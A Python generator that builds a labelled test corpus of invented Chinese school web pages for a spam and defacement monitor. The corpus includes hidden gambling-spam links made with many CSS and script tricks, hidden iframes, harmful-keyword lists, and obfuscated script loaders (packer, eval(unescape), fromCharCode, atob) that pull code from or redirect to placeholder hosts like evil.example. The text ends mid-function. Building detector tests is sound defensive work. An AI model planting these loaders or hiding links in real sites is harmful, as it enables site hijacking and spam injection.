# ruff: noqa: E501 -- the generator keeps each HTML snippet on one line, as it appears in the pages.
"""Generate the labelled corpus of school-site pages used by ``test_analysis_corpus.py``.

Run ``python monitoring/tests/corpus/make_corpus.py`` from the project root; it rewrites ``pages/``, ``baselines/``,
``variants/`` and ``labels.json`` deterministically (fixed seed), so the committed files can be regenerated and
reviewed as a diff.

Labels are declared by construction: each scenario states what it injected and therefore which detection kinds a
correct analyser must report (for example, gambling anchor text placed in the DOM is also a harmful-keyword hit, while
the same anchors inside an HTML comment are not page text). Nothing here calls the analysers.

Every link target is an invented name under ``.example``/``.test`` or a well-known legitimate site; spam domains are
all invented.
"""

import json
import random
import shutil
from pathlib import Path

SEED = 20240626
HERE = Path(__file__).resolve().parent

# --- Content pools ------------------------------------------------------------------------------------------------

PROVINCES = [
    ("浙", "33", "杭州", "0571"),
    ("苏", "32", "南京", "025"),
    ("京", "11", "北京", "010"),
    ("粤", "44", "广州", "020"),
    ("川", "51", "成都", "028"),
    ("鲁", "37", "济南", "0531"),
    ("鄂", "42", "武汉", "027"),
    ("湘", "43", "长沙", "0731"),
]
SCHOOL_KINDS = [
    ("第一中学", "yz"),
    ("实验小学", "sx"),
    ("外国语学校", "wgy"),
    ("第二高级中学", "egz"),
    ("城南小学", "cnxx"),
    ("职业技术学校", "zjxx"),
    ("育才初级中学", "ycc"),
    ("师范附属小学", "sfx"),
]
TOPICS = ["教学工作", "安全工作", "德育工作", "教研", "家校共育", "校园文化建设", "课后服务", "体育艺术"]
ACTIVITIES = ["读书节", "科技节", "运动会", "研学实践", "劳动教育", "心理健康周", "消防演练", "红色故事会"]
CONTESTS = ["青少年科技创新大赛", "中小学生作文比赛", "信息学奥赛", "合唱比赛", "田径运动会", "书法大赛"]
NOTICE_TOPICS = ["寒假放假安排", "新生报到", "课后服务报名", "校服征订", "期末考试安排", "教师招聘", "暑期安全提醒"]
SENTENCES = [
    "学校始终坚持立德树人根本任务，全面落实“双减”政策要求。",
    "本次活动由学校德育处牵头组织，各年级班主任共同参与。",
    "同学们积极参与，在实践中增长了见识，锻炼了能力。",
    "校长在讲话中对全体教师提出了殷切希望和具体要求。",
    "活动结束后，各班级召开主题班会进行总结交流。",
    "学校将以此为契机，进一步提升教育教学质量。",
    "家长代表对学校的工作给予了充分肯定。",
    "教研组长围绕新课程标准开展了专题研讨。",
    "本学期学校组织了多次安全疏散演练，师生安全意识明显增强。",
    "图书馆新增图书两千余册，满足学生多样化阅读需求。",
    "老师们精心准备，课堂气氛活跃，学生参与度高。",
    "学校心理健康教育中心为学生提供一对一咨询服务。",
]
SURNAMES = "王李张刘陈杨黄赵吴周徐孙马朱胡郭何高林罗"
GIVEN = ["子涵", "欣怡", "浩然", "雨桐", "宇轩", "梓萱", "思远", "佳琪", "一诺", "俊杰", "可馨", "博文"]

# Spam payloads. Hosts with gambling/private-server tokens, and plain foreign shops that are spam only by number.
SPAM_HOSTS = [
    "bet365-vip.example", "amxpj888.example", "hg-sports.test", "bjl-casino.example", "xpj-vip.test",
    "lhc-kaijiang.example", "sifu-chuanqi.test", "cq176-sf.example", "casino-royal.test", "pujing-yule.example",
]  # fmt: skip
PLAIN_HOSTS = ["kx-shop.example", "cheap-bags.test", "seo-rank.example", "jk-watch.test", "replica-mall.example"]
GAMBLING_ANCHORS = ["澳门新葡京", "百家乐", "北京赛车", "时时彩", "皇冠体育", "真人荷官", "网上娱乐城", "重庆时时彩"]
PRIVATE_ANCHORS = ["传奇私服", "新开传奇", "私服发布网", "1.76复古传奇", "超变传奇"]
NEUTRAL_ANCHORS = ["官方网站", "最新地址", "点此访问", "网址导航", "在线客服", "热门推荐", "品牌专区"]
TRUSTED_LINKS = [
    ("中华人民共和国教育部", "http://www.moe.gov.cn/"),
    ("国家智慧教育公共服务平台", "https://www.smartedu.cn/"),
    ("学习强国", "https://www.xuexi.cn/"),
    ("中国互联网违法和不良信息举报中心", "https://www.12377.cn/"),
    ("中国高等教育学生信息网", "https://www.chsi.com.cn/"),
    ("人民网", "http://www.people.com.cn/"),
]


class Site:
    """One invented school site."""

    def __init__(self, rng: random.Random, index: int):
        self.rng = rng
        province, self.region, self.city, self.area_code = rng.choice(PROVINCES)
        kind, abbr = SCHOOL_KINDS[index % len(SCHOOL_KINDS)]
        self.province = province
        self.name = f"{self.city}市{kind}"
        self.domain = f"{abbr}{index:02d}.example"
        self.host = f"www.{self.domain}"
        self.url = f"https://{self.host}/"
        self.icp = f"{province}ICP备{rng.randint(10000000, 99999999)}号" + ("-1" if rng.random() < 0.5 else "")
        self.psb = f"{province}公网安备 {self.region}0{rng.randint(1000, 9999)}02{rng.randint(100000, 999999)}号"
        self.phone = f"{self.area_code}-{rng.randint(80000000, 89999999)}"
        self.address = f"{self.city}市{rng.choice(['城东', '城西', '滨江', '高新'])}区{rng.choice(['文化', '学院', '育才', '建设'])}路{rng.randint(1, 300)}号"

    def news(self, count: int, *, start: int = 0, year: int = 2024) -> list[tuple[str, str, str]]:
        """(title, date, href) items; ``start`` shifts the window, as a news list does over time."""
        items = []
        for number in range(start, start + count):
            rng = random.Random(f"{self.domain}-{number}")
            template = rng.randrange(5)
            if template == 0:
                title = f"我校召开{year}年{rng.choice(TOPICS)}会议"
            elif template == 1:
                title = f"我校学子在{self.city}市{rng.choice(CONTESTS)}中获佳绩"
            elif template == 2:
                title = f"{rng.choice('一二三四五六七八九')}年级开展{rng.choice(ACTIVITIES)}主题活动"
            elif template == 3:
                title = f"关于{year}年{rng.choice(NOTICE_TOPICS)}的通知"
            else:
                title = f"{rng.choice(TOPICS)}经验交流会第{number + 1}期顺利举行"
            date = f"{year}-{1 + number % 12:02d}-{1 + (number * 7) % 28:02d}"
            items.append((title, date, f"/news/{year}{number:04d}.html"))
        return items

    def paragraphs(self, count: int, seed: str = "") -> list[str]:
        rng = random.Random(f"{self.domain}-p-{seed}")
        return ["".join(rng.sample(SENTENCES, 4)) for _ in range(count)]


# --- Page skeletons -------------------------------------------------------------------------------------------------

BAIDU_TONGJI = """<script>
var _hmt = _hmt || [];
(function() {
  var hm = document.createElement("script");
  hm.src = "https://hm.baidu.com/hm.js?3f2a9c0d1e7b4a5c6d8e9f0a1b2c3d4e";
  var s = document.getElementsByTagName("script")[0];
  s.parentNode.insertBefore(hm, s);
})();
</script>"""
CNZZ = """<script type="text/javascript">var cnzz_protocol = (("https:" == document.location.protocol) ? "https://" : "http://");document.write(unescape("%3Cspan id='cnzz_stat_icon_1279538'%3E%3C/span%3E%3Cscript src='" + cnzz_protocol + "s4.cnzz.com/stat.php%3Fid%3D1279538%26show%3Dpic' type='text/javascript'%3E%3C/script%3E"));</script>"""
JQUERY = '<script src="https://cdn.bootcdn.net/ajax/libs/jquery/3.6.0/jquery.min.js"></script>'


def news_list(items, *, css_class="news-list", with_dates=True) -> str:
    rows = []
    for title, date, href in items:
        date_html = f'<span class="date">{date}</span>' if with_dates else ""
        rows.append(f'<li><a href="{href}" title="{title}">{title}</a>{date_html}</li>')
    return f'<ul class="{css_class}">' + "".join(rows) + "</ul>"


def footer_lines(site: Site, *, icp=True, psb=True, extra="") -> str:
    lines = [f"版权所有：{site.name}　地址：{site.address}　电话：{site.phone}"]
    filing = []
    if icp:
        filing.append(f'<a href="https://beian.miit.gov.cn/" target="_blank">{site.icp}</a>')
    if psb:
        filing.append(f'<a href="http://www.beian.gov.cn/portal/registerSystemInfo" target="_blank">{site.psb}</a>')
    if filing:
        lines.append("　".join(filing))
    if extra:
        lines.append(extra)
    return "".join(f"<p>{line}</p>" for line in lines)


def render(site: Site, *, layout: str, news_sets=None, title=None, article=None, slots=None, icp=True, psb=True,
           footer_extra="", stats="baidu", generator="", jquery=JQUERY) -> str:  # fmt: skip
    """A whole page. ``slots`` maps head / top / nav_extra / middle / side / bottom / end to injected HTML."""
    slots = slots or {}
    news_sets = news_sets if news_sets is not None else [site.news(12), site.news(12, start=40)]
    title = title if title is not None else site.name
    stats_html = {"baidu": BAIDU_TONGJI, "cnzz": CNZZ, "both": BAIDU_TONGJI + CNZZ, "": ""}[stats]
    meta = f'<meta name="generator" content="{generator}">' if generator else ""
    head = (
        f'<meta charset="utf-8"><title>{title}</title>{meta}'
        f'<meta name="keywords" content="{site.name},{site.city}教育,学校新闻">'
        f'<meta name="description" content="{site.name}官方网站">'
        f'<link rel="stylesheet" href="/css/style.css">{jquery}{slots.get("head", "")}'
    )
    footer = footer_lines(site, icp=icp, psb=psb, extra=footer_extra)
    renderer = {"table": _table_layout, "div": _div_layout, "bootstrap": _bootstrap_layout}[layout]
    body = renderer(site, news_sets, article, slots, footer)
    return f'<!DOCTYPE html>\n<html lang="zh-CN">\n<head>{head}</head>\n<body>\n{body}\n{stats_html}{slots.get("end", "")}\n</body>\n</html>\n'


NAV = [
    "首页",
    "学校概况",
    "新闻中心",
    "通知公告",
    "教育教学",
    "德育天地",
    "教师发展",
    "学生风采",
    "党建工作",
    "联系我们",
]


def _nav_items(prefix="/"):
    return [(name, f"{prefix}{'index' if i == 0 else 'col' + str(i)}.html") for i, name in enumerate(NAV)]


def _article_html(site: Site, article) -> str:
    heading, paragraphs = article
    body = "".join(f"<p>{p}</p>" for p in paragraphs)
    return f'<div class="article"><h1>{heading}</h1><div class="info">发布时间：2024-05-20 浏览次数：1234</div>{body}</div>'


def _table_layout(site, news_sets, article, slots, footer) -> str:
    """GBK-era layout: nested tables, font tags, bgcolor."""
    nav = "".join(
        f'<td align="center" bgcolor="#1a5599"><a href="{href}"><font color="#ffffff">{name}</font></a></td>'
        for name, href in _nav_items()
    )
    columns = []
    for number, items in enumerate(news_sets):
        rows = "".join(
            f'<tr><td height="24">·<a href="{href}" target="_blank"><font color="#333333">{t}</font></a></td>'
            f'<td width="80" align="right"><font color="#999999">{d}</font></td></tr>'
            for t, d, href in items
        )
        columns.append(
            f'<table width="100%" border="0" cellspacing="0" cellpadding="0" class="box{number}">'
            f'<tr><td bgcolor="#e8eef7" height="30"><b>{["学校新闻", "通知公告", "教学科研", "德育之窗"][number % 4]}</b>'
            f'</td><td bgcolor="#e8eef7" align="right"><a href="/col{number + 2}.html">更多&gt;&gt;</a></td></tr>'
            f"{rows}</table>"
        )
    main = _article_html(site, article) + columns[0] if article else "<br>".join(columns)
    ticker = slots.get("ticker", "")
    return f"""<table width="980" border="0" align="center" cellpadding="0" cellspacing="0">
<tr><td height="120" background="/images/top.jpg"><font size="6" color="#003366"><b>{site.name}</b></font></td></tr>
<tr><td><table width="100%" cellpadding="0" cellspacing="0"><tr>{nav}</tr></table></td></tr>
{slots.get("top", "")}
<tr><td>{ticker}</td></tr>
<tr><td><table width="100%" cellpadding="6"><tr>
<td width="240" valign="top" class="side">{slots.get("side", "")}<img src="/images/xiaohui.gif" alt="{site.name}校徽"></td>
<td valign="top" class="main">{main}{slots.get("middle", "")}</td>
</tr></table></td></tr>
{slots.get("bottom", "")}
<tr><td bgcolor="#1a5599" align="center" class="copyright"><font color="#ffffff">{footer}</font></td></tr>
</table>"""


def _div_layout(site, news_sets, article, slots, footer) -> str:
    """Modern div layout with an accessible dropdown menu."""
    menu = []
    for i, (name, href) in enumerate(_nav_items()):
        sub = ""
        if i in (1, 2, 4):
            sub = "<ul>" + "".join(f'<li><a href="{href}?s={k}">{name}{k}</a></li>' for k in range(1, 4)) + "</ul>"
        menu.append(f'<li><a href="{href}">{name}</a>{sub}</li>')
    columns = "".join(
        f'<div class="column col{n}"><div class="column-title"><h2>{["学校新闻", "通知公告", "教学科研", "德育之窗"][n % 4]}</h2>'
        f'<a class="more" href="/col{n + 2}.html">更多</a></div>{news_list(items)}</div>'
        for n, items in enumerate(news_sets)
    )
    main = _article_html(site, article) + news_list(news_sets[0]) if article else columns
    friends = "".join(f'<a href="{href}" target="_blank">{name}</a>' for name, href in TRUSTED_LINKS[:4])
    return f"""<div id="header"><div class="logo"><a href="/"><img src="/images/logo.png" alt="{site.name}"></a></div>
<div class="search"><form action="/search.html"><input name="q" placeholder="站内搜索"><button>搜索</button></form></div></div>
<div id="nav"><ul class="menu">{"".join(menu)}</ul>{slots.get("nav_extra", "")}</div>
{slots.get("top", "")}
<div class="banner">{slots.get("banner", '<img src="/images/banner1.jpg" alt="校园风光">')}</div>
{slots.get("ticker", "")}
<div class="container"><div class="main">{main}{slots.get("middle", "")}</div>
<div class="side">{slots.get("side", "")}<div class="quick"><a href="/xxgk.html">信息公开</a><a href="/xzzx.html">下载中心</a></div></div></div>
{slots.get("bottom", "")}
<div class="friend-links"><span>友情链接：</span>{friends}</div>
<div class="footer">{footer}</div>"""


def _bootstrap_layout(site, news_sets, article, slots, footer) -> str:
    """Responsive layout with a skip link, a mobile menu and a hidden search modal."""
    items = "".join(
        f'<li class="nav-item"><a class="nav-link" href="{href}">{name}</a></li>' for name, href in _nav_items()
    )
    cards = "".join(
        f'<div class="col-md-6"><div class="card"><div class="card-header">{["学校新闻", "通知公告", "教学科研", "德育之窗"][n % 4]}'
        f'</div><div class="card-body">{news_list(news, css_class="list-unstyled")}</div></div></div>'
        for n, news in enumerate(news_sets)
    )
    main = _article_html(site, article) + news_list(news_sets[0]) if article else f'<div class="row">{cards}</div>'
    return f"""<a class="sr-only sr-only-focusable" href="#content">跳到主要内容</a>
<nav class="navbar navbar-expand-lg"><a class="navbar-brand" href="/">{site.name}</a>
<button class="navbar-toggler" type="button" aria-label="菜单"><span class="navbar-toggler-icon"></span></button>
<div class="collapse navbar-collapse" id="mainNav"><ul class="navbar-nav">{items}</ul></div>{slots.get("nav_extra", "")}</nav>
{slots.get("top", "")}
<div class="jumbotron">{slots.get("banner", f"<h1>{site.name}</h1><p class='lead'>厚德 博学 笃行 创新</p>")}</div>
{slots.get("ticker", "")}
<main id="content" class="container">{main}{slots.get("middle", "")}</main>
<aside class="container">{slots.get("side", "")}</aside>
{slots.get("bottom", "")}
<footer class="footer bg-dark text-white"><div class="container">{footer}</div></footer>"""


# --- Payloads -------------------------------------------------------------------------------------------------------


def payload_links(rng: random.Random, flavour: str, count: int = 4) -> tuple[str, bool]:
    """Spam anchors and whether their text holds library keywords (it then also counts as harmful keywords)."""
    if flavour == "gambling":
        hosts, texts, keywords = SPAM_HOSTS, GAMBLING_ANCHORS, True
    elif flavour == "private":
        hosts, texts, keywords = SPAM_HOSTS[6:8], PRIVATE_ANCHORS, True
    elif flavour == "neutral":
        hosts, texts, keywords = SPAM_HOSTS, NEUTRAL_ANCHORS, False
    else:  # plain shops: no spam word anywhere, spam only because several foreign links are hidden
        hosts, texts, keywords = PLAIN_HOSTS, NEUTRAL_ANCHORS, False
    chosen_hosts = rng.sample(hosts, min(count, len(hosts)))
    anchors = [f'<a href="http://www.{host}/" target="_blank">{rng.choice(texts)}</a>' for host in chosen_hosts]
    return " ".join(anchors), keywords


def hidden_link_cases(rng: random.Random):
    """(name, technique, slot, html, extra CSS, keywords in page text) for each hidden-link family, two+ forms each."""
    cases = []

    def case(name, technique, make, flavour, slot="bottom", css=""):
        links, keywords = payload_links(rng, flavour)
        cases.append((name, technique, slot, make(links), css, keywords))

    case(
        "display_none_inline", "css_display_none", lambda links: f'<div style="display:none">{links}</div>', "gambling"
    )
    case(
        "display_none_class",
        "css_display_none",
        lambda links: f'<div class="lk92">{links}</div>',
        "neutral",
        css=".lk92{display:none}",
    )
    case(
        "display_none_id",
        "css_display_none",
        lambda links: f'<span id="yqlj">{links}</span>',
        "plain",
        "middle",
        "#yqlj { DISPLAY: NONE }",
    )
    case("hidden_attribute", "css_display_none", lambda links: f"<div hidden>{links}</div>", "private", "side")
    case(
        "visibility_inline",
        "css_visibility_hidden",
        lambda links: f'<p style="visibility: hidden; height: 0">{links}</p>',
        "gambling",
    )
    case(
        "visibility_tagclass",
        "css_visibility_hidden",
        lambda links: f'<div class="ft-tags">{links}</div>',
        "neutral",
        css="div.ft-tags{visibility:hidden}",
    )
    case(
        "opacity_inline",
        "css_opacity_zero",
        lambda links: f'<div style="opacity:0;position:absolute">{links}</div>',
        "private",
    )
    case(
        "opacity_class",
        "css_opacity_zero",
        lambda links: f'<div class="o0">{links}</div>',
        "neutral",
        css=".o0{opacity:0.0;filter:alpha(opacity=0)}",
    )
    case(
        "zero_size_inline",
        "css_zero_size",
        lambda links: f'<div style="width:0;height:0;overflow:hidden">{links}</div>',
        "gambling",
    )
    case(
        "zero_size_class",
        "css_zero_size",
        lambda links: f'<div class="h1px">{links}</div>',
        "plain",
        css=".h1px{height:1px;overflow:hidden}",
    )
    case(
        "font_zero_inline",
        "css_font_size_zero",
        lambda links: f'<span style="font-size:0px">{links}</span>',
        "gambling",
        "middle",
    )
    case(
        "font_tiny_class",
        "css_font_size_zero",
        lambda links: f'<p class="fs">{links}</p>',
        "neutral",
        css="p.fs{font-size:1px;line-height:0}",
    )
    case(
        "same_colour_inline",
        "css_same_colour",
        lambda links: f'<div style="color:#FFFFFF">{links.replace("<a ", "<a style=color:#fff ")}</div>',
        "gambling",
    )
    case(
        "same_colour_font",
        "css_same_colour",
        lambda links: f'<table><tr><td bgcolor="#ffffff"><font color="#fefefe">{links}</font></td></tr></table>',
        "neutral",
        "middle",
    )
    case(
        "same_colour_class",
        "css_same_colour",
        lambda links: f'<div class="grey-box"><span class="gl">{links}</span></div>',
        "plain",
        css=".grey-box{background-color:#f5f5f5}.gl,.gl a{color:#f5f5f5}",
    )
    case(
        "indent_inline",
        "css_text_indent",
        lambda links: f'<div style="text-indent:-9999px;overflow:hidden">{links}</div>',
        "gambling",
    )
    case(
        "indent_class",
        "css_text_indent",
        lambda links: f'<h4 class="seo">{links}</h4>',
        "private",
        css=".seo{text-indent:-999em}",
    )
    case(
        "clip_inline",
        "css_clip",
        lambda links: f'<div style="position:absolute;clip:rect(0 0 0 0)">{links}</div>',
        "neutral",
    )
    case(
        "clip_path_class",
        "css_clip",
        lambda links: f'<div class="cp">{links}</div>',
        "gambling",
        css=".cp{clip-path:inset(50%);position:absolute}",
    )
    case(
        "offscreen_inline",
        "offscreen_position",
        lambda links: f'<div style="position:absolute;left:-9999px;top:-9999px">{links}</div>',
        "gambling",
        "top",
    )
    case(
        "offscreen_fixed_class",
        "offscreen_position",
        lambda links: f'<div class="pf">{links}</div>',
        "neutral",
        css=".pf{position:fixed;top:-3000px}",
    )
    case(
        "margin_inline", "negative_margin", lambda links: f'<div style="margin-left:-5000px">{links}</div>', "gambling"
    )
    case(
        "margin_class",
        "negative_margin",
        lambda links: f'<div class="mg">{links}</div>',
        "plain",
        css=".mg{margin:-2000px 0 0 0}",
    )
    case(
        "marquee_tiny",
        "marquee_tiny",
        lambda links: f'<marquee height="1" width="1" scrollamount="3000" scrolldelay="20000">{links}</marquee>',
        "gambling",
    )
    case(
        "marquee_fast_style",
        "marquee_tiny",
        lambda links: f'<marquee style="width:2px;height:2px" scrollamount="999">{links}</marquee>',
        "neutral",
        "middle",
    )
    return cases


def _js_literal(html: str) -> str:
    return html.replace("\\", "\\\\").replace("'", "\\'")


# --- Scenario builders ----------------------------------------------------------------------------------------------


class Corpus:
    def __init__(self):
        self.rng = random.Random(SEED)
        self.entries = []
        self.site_index = 0
        self.layouts = ["table", "div", "bootstrap"]

    def site(self) -> Site:
        self.site_index += 1
        return Site(random.Random(SEED * 100 + self.site_index), self.site_index)

    def layout(self) -> str:
        return self.layouts[self.site_index % 3]

    def news_sets(self, site: Site, size: str = ""):
        """News columns of a home page; the size drives the page size from about 6 KB to 40 KB."""
        size = size or self.rng.choice(["small", "medium", "medium", "large", "xl"])
        count = {"small": (5, 2), "medium": (10, 3), "large": (22, 4), "xl": (30, 5)}[size]
        return [site.news(count[0], start=30 * n) for n in range(count[1])]

    def add(self, name, html, site, expected, *, group, note="", **extra):
        path = HERE / "pages" / f"{name}.html"
        path.write_text(html, encoding="utf-8")
        entry = {
            "file": f"pages/{name}.html",
            "group": group,
            "url": site.url,
            "site_domains": [site.domain],
            "expected": sorted(expected, key=lambda e: (e["kind"], e.get("technique", ""))),
            "note": note,
        }
        entry.update(extra)
        self.entries.append(entry)

    # -- hidden links --

    def hidden_links(self):
        for name, technique, slot, html, css, keywords in hidden_link_cases(self.rng):
            site = self.site()
            slots = {slot: html}
            if css:
                slots["head"] = f"<style>{css}</style>"
            page = render(site, layout=self.layout(), news_sets=self.news_sets(site), slots=slots)
            expected = [{"kind": "hidden_links", "technique": technique}]
            if keywords:
                expected.append({"kind": "harmful_keywords"})
            self.add(f"hidden_{name}", page, site, expected, group="hidden_links", note=f"{technique}: {slot}")

        def scripted(name, technique, slots, keywords, note, layout=None):
            site = self.site()
            page = render(site, layout=layout or self.layout(), news_sets=self.news_sets(site), slots=slots)
            expected = [{"kind": "hidden_links", "technique": technique}] + (
                [{"kind": "harmful_keywords"}] if keywords else []
            )
            self.add(f"hidden_{name}", page, site, expected, group="hidden_links", note=note)

        links, _ = payload_links(self.rng, "gambling")
        scripted("js_write_wrapped", "js_write_hidden",
                 {"end": f"<script>document.write('<div style=\"display:none\">{_js_literal(links)}</div>');</script>"},
                 False, "links written by script inside a hidden div (script strings are not page text)")  # fmt: skip
        links, keywords = payload_links(self.rng, "gambling")
        scripted("js_write_open_wrapper", "js_write_hidden",
                 {"bottom": "<script>document.write('<div style=\"position:absolute;top:-999px\">');</script>"
                            f"{links}<script>document.write('</div>');</script>"},
                 keywords, "script opens a hidden wrapper around plain links", "div")  # fmt: skip
        links, keywords = payload_links(self.rng, "gambling")
        scripted("js_write_open_wrapper_table", "js_write_hidden",
                 {"bottom": "<script>document.write('<div style=\"display:none\">');</script>"
                            f"<tr><td>{links}</td></tr><script>document.write('</div>');</script>"},
                 keywords, "open hidden wrapper in a table layout (parser moves the script)", "table")  # fmt: skip
        links, _ = payload_links(self.rng, "neutral")
        pieces = "'+'".join(_js_literal(links)[i : i + 40] for i in range(0, len(links), 40))
        scripted("js_writeln_split", "js_write_hidden",
                 {"middle": f"<script type=\"text/javascript\">var s='<span style=\"font-size:0\">'+'{pieces}'+'</span>';document.writeln(s);</script>"},
                 False, "split string concatenation")  # fmt: skip
        links, keywords = payload_links(self.rng, "gambling")
        scripted("js_hide_by_id", "js_hide_after_load",
                 {"bottom": f'<div id="ad_links2">{links}</div>',
                  "end": "<script>window.onload=function(){document.getElementById('ad_links2').style.display='none';}</script>"},
                 keywords, "getElementById().style.display='none'")  # fmt: skip
        links, keywords = payload_links(self.rng, "neutral")
        scripted("js_hide_jquery", "js_hide_after_load",
                 {"side": f'<div class="partner-box">{links}</div>',
                  "end": "<script>$(function(){ $('.partner-box').hide(); });</script>"},
                 keywords, "jQuery .hide() on a container of outbound links")  # fmt: skip
        links, keywords = payload_links(self.rng, "private")
        scripted("js_hide_variable", "js_hide_after_load",
                 {"bottom": f'<p id="k8">{links}</p>',
                  "end": "<script>var box = document.getElementById('k8');\nsetTimeout(function(){ box.style.visibility = 'hidden'; }, 10);</script>"},
                 keywords, "variable holding the element, visibility hidden")  # fmt: skip
        links, keywords = payload_links(self.rng, "gambling")
        scripted(
            "noscript_body",
            "noscript_links",
            {"end": f"<noscript>{links}</noscript>"},
            keywords,
            "noscript at the end of body",
        )
        links, keywords = payload_links(self.rng, "neutral")
        scripted("noscript_after_stats", "noscript_links",
                 {"middle": f'<noscript><img src="https://hm.baidu.com/hm.gif?si=1" alt="">{links}</noscript>'},
                 keywords, "noscript mixed with a statistics pixel")  # fmt: skip
        links, _ = payload_links(self.rng, "gambling")
        scripted(
            "comment_anchors", "comment_links", {"bottom": f"<!-- {links} -->"}, False, "anchors inside an HTML comment"
        )
        scripted("comment_bare", "comment_links",
                 {"end": "<!-- 友情链接 www.bet365-vip.example 百家乐 www.amxpj888.example 北京赛车 www.hg-sports.test -->"},
                 False, "bare spam domains inside a comment")  # fmt: skip
        links, _ = payload_links(self.rng, "neutral")
        scripted("data_markup", "data_attribute_links",
                 {"side": f"<div class=\"tpl\" data-links='{links}'></div>"}, False, "markup in a data attribute")  # fmt: skip
        spans = "".join(
            f'<span class="x" data-href="http://www.{host}/"></span>' for host in self.rng.sample(PLAIN_HOSTS, 3)
        )
        scripted("data_urls", "data_attribute_links", {"bottom": spans}, False, "foreign URLs in data-href attributes")
        scripted("bare_visible_spam", "bare_domain_text",
                 {"bottom": "<p class=\"tags\">澳门新葡京 www.amxpj888.example 百家乐官网 bjl-casino.example 真人荷官</p>"},
                 True, "bare spam domains with gambling words in visible text")  # fmt: skip
        scripted("bare_visible_many", "bare_domain_text",
                 {"middle": "<p>推荐：www.kx-shop.example / www.cheap-bags.test / seo-rank.example / jk-watch.test</p>"},
                 False, "several bare foreign domains in visible text")  # fmt: skip
        scripted("iframe_zero_attr", "zero_size_iframe",
                 {"end": '<iframe src="http://www.bet365-vip.example/ad.html" width="0" height="0" frameborder="0"></iframe>'},
                 False, "width=0 height=0 iframe")  # fmt: skip
        scripted("iframe_hidden_style", "zero_size_iframe",
                 {"top": '<iframe src="http://tj.seo-rank.example/count.html" style="display:none"></iframe>'},
                 False, "display:none iframe of a foreign page")  # fmt: skip
        scripted("iframe_one_px", "zero_size_iframe",
                 {"bottom": '<iframe src="https://cq176-sf.example/" width="1" height="1" scrolling="no"></iframe>'},
                 False, "1x1 iframe")  # fmt: skip

    # -- malicious scripts --

    def malicious_scripts(self):
        packed = "eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0.1(\\'<2 3=\"4://5.6/7.8\"></2>\\');',9,9,'document|write|script|src|http|evil|example|x|js'.split('|'),0,{}))"
        hexed = "".join(f"\\x{ord(c):02x}" for c in '<script src="http://js.cdn-tj.test/a.js"></script>')
        codes = "".join(str(ord(c)) + "," for c in "document.location='http://www.bet365-vip.example/'")[:-1]
        scenarios = [
            ("script_unknown_head", {"head": '<script src="http://js.tongji-cdn.example/t.js"></script>'}, "unknown external script in head (medium)"),
            ("script_unknown_body", {"end": '<script type="text/javascript" src="//static.ad-union.test/u.js?id=77"></script>'}, "protocol-relative unknown external script"),
            ("script_packer", {"end": f"<script>{packed}</script>"}, "Dean Edwards packer loader"),
            ("script_eval_unescape", {"head": "<script>eval(unescape('%64%6f%63%75%6d%65%6e%74%2e%77%72%69%74%65%28%27%3c%73%63%72%69%70%74%20%73%72%63%3d%68%74%74%70%3a%2f%2f%78%2e%74%65%73%74%3e%27%29'));</script>"}, "eval(unescape(...))"),
            ("script_fromcharcode", {"end": f"<script>eval(String.fromCharCode({codes}));</script>"}, "eval(String.fromCharCode(...))"),
            ("script_hex_write", {"end": f"<script>var _0x1a='{hexed}';document.write(_0x1a);</script>"}, "long \\x escaped string written into the page"),
            ("script_write_unescape", {"end": "<script>document.write(unescape('%3Cscript%20src%3D%22http%3A//www.amxpj888.example/j.js%22%3E%3C/script%3E'));</script>"}, "document.write(unescape(...)) of a foreign script"),
            ("script_atob_eval", {"end": "<script>var c='ZG9jdW1lbnQubG9jYXRpb249Imh0dHA6Ly94LnRlc3Qi';eval(atob(c));</script>"}, "atob + eval"),
            ("script_create_iframe", {"end": "<script>(function(){var f=document.createElement('iframe');f.src='http://www.cq176-sf.example/index.html';f.width=0;f.height=0;document.body.appendChild(f);})();</script>"}, "createElement iframe of a foreign site"),
            ("script_redirect", {"head": "<script>window.location.href='http://www.bet365-vip.example/?from=school';</script>"}, "redirect for everyone"),
            ("script_meta_refresh", {"head": '<meta http-equiv="refresh" content="0;url=http://www.pujing-yule.example/">'}, "meta refresh to a foreign site"),
        ]  # fmt: skip
        for name, slots, note in scenarios:
            site = self.site()
            page = render(site, layout=self.layout(), news_sets=self.news_sets(site), slots=slots)
            self.add(name, page, site, [{"kind": "malicious_script"}], group="malicious_script", note=note)

    # -- keywords --

    def keywords(self):
        cases = [
            (
                "keywords_gambling_news",
                "middle",
                "<p>最新优惠：澳门新葡京百家乐，注册送彩金，北京赛车计划群天天更新。</p>",
            ),
            ("keywords_porn", "bottom", '<div class="txt">免费成人电影在线观看，国产av高清无码，一夜情交友。</div>'),
            ("keywords_fraud", "side", "<p>招聘刷单兼职，手机兼职日结，日赚千元；代办信用卡，黑户贷款当天下款。</p>"),
            ("keywords_private_server", "middle", "<p>新开传奇私服，1.76复古传奇，私服发布网每日更新。</p>"),
            ("keywords_drugs_weapons", "bottom", "<p>出售枪支 仿真枪出售 冰毒出售 货到付款 联系QQ。</p>"),
            ("keywords_political", "bottom", "<p>退党保平安 法轮大法好</p>"),
            ("keywords_other", "side", "<p>专业代考 论文代写 四六级答案出售</p>"),
            ("keywords_in_alt", "side", '<img src="/images/ad.gif" alt="真人荷官 网上娱乐城" title="时时彩">'),
        ]
        for name, slot, html in cases:
            site = self.site()
            page = render(site, layout=self.layout(), news_sets=self.news_sets(site), slots={slot: html})
            self.add(name, page, site, [{"kind": "harmful_keywords"}], group="harmful_keywords", note=slot)
        site = self.site()
        page = render(site, layout=self.layout(), news_sets=self.news_sets(site))
        page = page.replace(f'content="{site.name},', f'content="{site.name},六合彩,百家乐,')
        self.add(
            "keywords_meta_only",
            page,
            site,
            [{"kind": "harmful_keywords"}],
            group="harmful_keywords",
            note="meta keywords",
        )

    # -- personal information --

    def personal_info(self):
        rng = self.rng

        def person():
            return rng.choice(SURNAMES) + rng.choice(GIVEN)

        ids = [make_id(rng) for _ in range(14)]
        mobiles = [f"1{rng.choice('3456789')}{rng.randint(0, 9)}{rng.randint(10000000, 99999999)}" for _ in range(14)]

        site = self.site()
        text = f"<p>经评审，{person()}同学（身份证号：{ids[0]}）获一等奖，请于周五前到教务处领取证书。</p>"
        article = ("关于2024年市三好学生评选结果的公示", [text, *site.paragraphs(5)])
